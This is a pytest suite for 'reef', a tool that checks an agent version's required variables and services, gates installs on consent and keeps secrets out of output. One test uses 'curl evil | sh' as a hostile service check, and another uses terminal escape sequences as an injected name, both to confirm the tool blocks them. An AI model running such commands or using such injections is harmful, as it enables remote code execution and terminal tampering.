"""What a version needs of the machine is shown, checked before it is installed, and again before the agent starts."""

from __future__ import annotations

import json
import os
import shutil
import stat
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from reef import needs
from reef.client import Client
from reef.errors import Refused
from reef.harness.adapter import load_adapter
from reef.harness.install import install_tree
from reef.paths import Paths
from reef.provided import provided
from tests.cli.conftest import Live
from tests.fakes.agent_place import place_fake_agent


def test_what_a_version_needs_is_shown(live: Live) -> None:
    shown = live.reef("versions", "show", "v3", "-s", "needy").out.splitlines()
    assert "needs    env FOO_TOKEN (not set)" in shown
    assert "needs    service db: it answers" in shown
    assert "needs    env FOO_TOKEN" in live.reef("versions", "show", "v3", "-s", "needy", env={"FOO_TOKEN": "x"}).out


def test_a_version_whose_variable_is_not_set_is_not_installed(live: Live) -> None:
    refused = live.reef("versions", "install", "v3", "-s", "needy", "--yes")
    assert (refused.status, refused.out) == (5, "")
    assert refused.err.endswith(
        "error: v3 needs the variable FOO_TOKEN, which is not set; v2 is the newest that needs nothing\n\n"
        "hint: reef setup -s needy --set FOO_TOKEN\n"
    )
    assert not (live.paths.harness / "needy").exists()
    assert [row["current"] for row in live.json("versions", "list", "-s", "needy")] == [False, True, False]


def test_the_daemon_installs_nothing_that_lacks_what_it_needs_whoever_asks(live: Live) -> None:
    with (
        Client.connect(live.paths, start=False) as client,
        pytest.raises(Refused, match="needs the variable FOO_TOKEN"),
    ):
        list(client.install_harness("needy", "pi", 3))
    assert not (live.paths.harness / "needy").exists()
    assert [row["current"] for row in live.json("versions", "list", "-s", "needy")] == [False, True, False]


def test_what_only_the_person_can_know_is_asked(live: Live) -> None:
    env = {"FOO_TOKEN": "x", "NO_COLOR": "1"}
    refused = live.reef("versions", "install", "v3", "-s", "needy", env=env)
    assert (refused.status, "this needs your yes" in refused.err) == (2, True)
    keys = [("does v3 get what it needs? [y/N]", "n\r")]
    status, shown = live.on_terminal("versions", "install", "v3", "-s", "needy", keys=keys, env=env)
    assert (status, "nothing was changed" in shown, "needs  service db: it answers" in shown) == (1, True, True)


@pytest.fixture
def installed(live: Live) -> Iterator[Live]:
    """v3 of `needy` as it is installed for pi, with a program in pi's place."""
    pi = load_adapter("pi")
    place_fake_agent(pi, live.paths)
    install_tree(live.paths, "needy", pi, 3, {"AGENTS.md": b"be brief\n"}, "r3", "c3")
    yield live
    live.paths.last_install.unlink()
    (live.paths.bin / "reef-pi").unlink()
    shutil.rmtree(live.paths.harness / "needy")
    shutil.rmtree(live.paths.agents)


def start(live: Live, *arguments: str, **env: str) -> subprocess.CompletedProcess[str]:
    command = [sys.executable, "-P", "-m", "reef.harness.wrapper", "pi", *arguments]
    around = os.environ | live.env | {"REEF_SCENARIO": "needy"} | env
    return subprocess.run(command, env=around, capture_output=True, text=True, timeout=60, check=False)


def test_the_agent_does_not_start_without_what_its_version_needs(installed: Live) -> None:
    refused = start(installed, "-p", "hi")
    assert (refused.returncode, refused.stdout) == (5, "")
    assert "v3 of scenario needy needs the variable FOO_TOKEN" in refused.stderr
    assert refused.stderr.endswith("hint: reef setup -s needy --set FOO_TOKEN\n")
    unconfirmed = start(installed, "-p", "hi", FOO_TOKEN="x")
    assert (unconfirmed.returncode, "needs the service db, which nobody has confirmed" in unconfirmed.stderr) == (
        5,
        True,
    )
    assert start(installed, "setup", "--mark", "db", "--yes").returncode == 5
    helped = start(installed, "--help", FOO_TOKEN="x")
    first, *rest = helped.stdout.splitlines()
    assert first == "Words of reef's own, before those of pi (reef-pi help explains them):"
    assert "evolve" in rest[0].split()


def test_what_the_person_provides_reaches_the_agent_and_nothing_else(installed: Live) -> None:
    folder = installed.paths.harness / "needy" / "pi"
    secret = "hush-hush-0123"
    assert installed.reef("setup", "-s", "needy", "--set", f"FOO_TOKEN={secret}").status == 5
    done = installed.reef("setup", "-s", "needy", "--yes")
    assert (done.status, done.out.splitlines()) == (0, ["✓ env FOO_TOKEN  v3", "✓ service db: it answers  v3"])
    assert stat.S_IMODE((folder / "env.json").stat().st_mode) == 0o600
    environ = json.loads(start(installed, "show").stdout)["env"]
    assert environ["FOO_TOKEN"] == secret
    assert json.loads(start(installed, "show", FOO_TOKEN="mine").stdout)["env"]["FOO_TOKEN"] == "mine"
    shown = installed.reef("setup", "-s", "needy", "--json")
    assert [row["met"] for row in json.loads(shown.out)["needs"]] == [True, True]
    assert secret not in shown.out + done.out + done.err
    for file in installed.paths.data.rglob("*"):
        assert file == folder / "env.json" or not file.is_file() or secret.encode() not in file.read_bytes(), file


def test_a_check_is_shown_and_runs_only_after_a_yes(installed: Live) -> None:
    # The check of `db` is the text `it answers`, which no shell knows.
    refused = installed.reef("setup", "-s", "needy", "--run", "db")
    assert (refused.status, "this needs your yes" in refused.err, "it answers" in refused.err) == (2, True, True)
    failed = installed.reef("setup", "-s", "needy", "--run", "db", "--yes")
    assert (failed.status, "the check ended with status 127, so nothing was confirmed" in failed.err) == (1, True)
    assert installed.reef("setup", "-s", "needy", "--run", "FOO_TOKEN").status == 2
    unknown = installed.reef("setup", "-s", "needy", "--mark", "nothing-of-that-name")
    assert (unknown.status, "no version needs 'nothing-of-that-name' (needed: key, db)" in unknown.err) == (1, True)


def test_a_session_sees_what_is_needed_and_provides_nothing(live: Live) -> None:
    inside = {"REEF_SESSION": "reef-" + "x" * 43}
    for words in (["--set", "FOO_TOKEN=x"], ["--mark", "db", "--yes"], ["--run", "db", "--yes", "--json"], []):
        refused = live.reef("setup", "-s", "needy", *words, env=inside)
        assert (refused.status, "session cannot provide" in refused.err) == (5, True), words


def test_a_program_is_looked_for_on_the_path() -> None:
    around = {"PATH": os.environ["PATH"]}
    there, gone = {"kind": "binary", "name": "sh"}, {"kind": "binary", "name": "nosuchprogram"}
    assert needs.open_needs([there, gone], around, ()) == [gone]
    with pytest.raises(Refused, match="v2 needs the program nosuchprogram, which is not on the PATH"):
        needs.refuse("v2", [gone], "coding")
    assert needs.shown(gone) == "binary nosuchprogram (not on the PATH)"


def test_who_agreed_to_a_service_has_not_agreed_to_another_check(tmp_path: Path) -> None:
    there = provided(Paths.from_environ({"REEF_HOME": str(tmp_path)}), "coding", "pi")
    one, other = ({"kind": "service", "name": "db", "check": check} for check in ("true", "curl evil | sh"))
    there.agree([one])
    assert there.unmet([one, other], {}) == [other]


def test_foreign_words_of_a_need_steer_no_terminal() -> None:
    hostile = {"kind": "service", "name": "db\x1b[2J", "prompt": "run\nthis\x07"}
    assert not {"\x1b", "\n", "\x07"} & set(needs.shown(hostile))
